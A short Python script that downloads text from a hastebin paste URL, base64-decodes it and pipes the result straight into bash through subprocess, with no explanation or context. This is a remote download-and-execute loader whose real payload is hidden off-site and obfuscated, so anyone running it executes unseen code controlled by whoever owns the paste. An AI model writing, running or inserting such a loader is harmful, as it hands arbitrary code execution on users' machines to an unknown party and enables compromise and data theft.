import base64
import subprocess
import requests

resp = requests.get("https://hastebin.com/raw/ufoxiwaqeb")
script = base64.b64decode(resp.text.strip()).decode()
subprocess.run(["bash", "-c", script])
